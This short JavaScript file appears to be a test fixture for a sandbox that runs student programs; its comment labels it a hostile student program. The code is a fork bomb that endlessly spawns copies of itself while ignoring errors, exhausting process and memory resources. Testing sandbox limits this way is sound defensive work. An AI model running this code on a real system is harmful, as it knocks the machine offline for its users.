/* eslint-disable -- a hostile student program (CommonJS, run inside the sandbox), not project code */
const { spawn } = require('child_process');
for (;;) {
  try {
    spawn(process.execPath, [__filename], { stdio: 'ignore' }).on('error', () => {});
  } catch {}
}
